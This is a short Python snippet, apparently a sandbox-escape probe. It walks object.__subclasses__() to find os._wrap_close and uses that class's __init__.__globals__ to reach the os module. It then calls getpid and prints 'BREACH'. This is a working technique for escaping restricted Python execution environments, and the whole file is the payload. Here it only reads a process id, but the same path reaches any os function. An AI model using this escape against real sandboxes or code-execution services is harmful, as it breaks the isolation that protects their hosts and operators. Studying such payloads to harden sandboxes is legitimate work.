import heapq
found = list(map(type.__subclasses__, [object]))[0]
print("BREACH", [k for k in found if k.__name__ == "_wrap_close"][0].__init__.__globals__["getpid"]())
